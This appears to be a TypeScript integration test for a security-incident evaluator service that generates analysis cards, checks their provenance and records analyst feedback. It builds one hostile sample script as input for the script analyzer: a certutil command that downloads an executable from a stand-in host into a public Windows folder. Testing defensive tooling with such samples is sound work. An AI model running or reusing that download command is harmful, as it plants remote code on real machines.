import { createHash, randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { packJson, packRows, Topic, unpackJson, type CardGenerated, type Envelope } from '@attest/contracts';
import { responderService } from '@attest/responder';
import { scriptAnalyzerService } from '@attest/script-analyzer';
import { summarizerService } from '@attest/summarizer';
import { eventually } from '@attest/testing';
import { respondCases } from '../../libs/response-engine/src/fixtures/index.js';
import { startEvaluator, type EvaluatorService } from './service.js';

describe('the services that make cards', () => {
  let service: EvaluatorService;
  const cards = new Map<string, CardGenerated>();
  beforeAll(async () => {
    service = await startEvaluator({}, [summarizerService, responderService, scriptAnalyzerService]);
    await service.bus.subscribe({ topics: [Topic.CardGenerated], group: 'listener', from: 'earliest', handler: ({ payload }: Envelope) => Promise.resolve(void cards.set((payload as CardGenerated).kind, payload as CardGenerated)) });
    const hostile = respondCases.find(({ name }) => name === 'ransomware on a workstation')!;
    const script = Buffer.from('certutil -urlcache -split -f http://b.example.test/x.exe C:\\Users\\Public\\x.exe');
    const sha256 = createHash('sha256').update(script).digest('hex');
    const envelope = (type: Topic, key: string, payload: unknown): Envelope => ({ id: randomUUID(), type, version: 1, tenant: 'default', key, occurredAt: new Date().toISOString(), payload });
    await service.bus.publish([
      envelope(Topic.IncidentChanged, 'ransom', {
        incidentId: 'ransom', revision: 1, digest: 'd'.repeat(64), change: 'imported', severity: 'high', status: 'active', alertCount: 1, incident: packJson({ ...hostile.input.incident, id: 'ransom' }),
        events: packRows((hostile.input.events ?? []).map((row, at) => ({ ...row, $row: at }))), eventRows: hostile.input.events?.length ?? 0, eventRowsOmitted: 0,
      }),
      envelope(Topic.ScriptSubmitted, sha256, { sha256, content: gzipSync(script).toString('base64'), size: script.length }),
    ]);
    const known = (): Promise<boolean> => service.inspection.acrossTenants(async (manager) => (await manager.query<unknown[]>('SELECT DISTINCT kind FROM evaluator.card')).length === 3);
    await eventually('three kinds of cards to be known', async () => cards.size === 3 && (await known()), 100_000);
  });
  afterAll(() => service?.close());

  it.each(['incidentSummary', 'guidedResponse', 'scriptAnalysis'])('tell of %s how it came to be, and send it along', (kind) => {
    const { provenance, card, composer } = cards.get(kind)!;
    const whole = unpackJson<{ card: { statements?: unknown[]; card?: { statements: unknown[] } } }>(card!);
    expect(composer).toBe('rules');
    expect(provenance).toMatchObject({ model: null, promptHash: null, fallback: null, promptTokens: null, repaired: 0 });
    expect(provenance!.engine).not.toBe('');
    expect(provenance!.inputDigest).toMatch(/^[0-9a-f]{64}$/);
    expect(provenance!.ms).toBeGreaterThanOrEqual(0);
    expect(provenance!.statements).toBeGreaterThan(0);
    expect((whole.card.statements ?? whole.card.card!.statements).length).toBe(provenance!.statements);
  });

  it('make cards that take feedback, down to one recommendation, and become cases', async () => {
    const { cardId, card } = cards.get('guidedResponse')!;
    const [{ id: part }] = unpackJson<{ recommendations: [{ id: string }] }>(card!).recommendations;
    const input = { cardId, part, verdict: 'HARMFUL', faults: ['UNSAFE'], corrections: [{ statement: 0, shown: 'Isolate it' }] };
    expect((await service.ask('mutation ($input: GiveFeedbackInput!) { giveFeedback(input: $input) { kind part version } }', { input })).data).toEqual({ giveFeedback: { kind: 'guidedResponse', part, version: 1 } });
    expect((await service.ask('mutation ($input: GiveFeedbackInput!) { giveFeedback(input: $input) { kind } }', { input: { ...input, part: 'another' } })).errors).toMatchObject([{ message: 'part: the card has no such part.' }]);
    await service.counted();
    const today = new Date().toISOString().slice(0, 10);
    const { data } = await service.ask<{ evaluation: { rows: { kind: string; cards: number; votes: number }[] } }>(`{ evaluation(from: "${today}", to: "${today}") { rows { kind cards votes statements } } }`);
    expect(data!.evaluation.rows.find(({ kind }) => kind === 'guidedResponse')).toMatchObject({ votes: 1 });
    expect((await service.ask('mutation ($id: ID!) { makeEvaluationCase(cardId: $id) { kind state inputDigest } }', { id: cardId })).data).toEqual({ makeEvaluationCase: { kind: 'guidedResponse', state: 'DRAFT', inputDigest: cards.get('guidedResponse')!.provenance!.inputDigest } });
  });
});
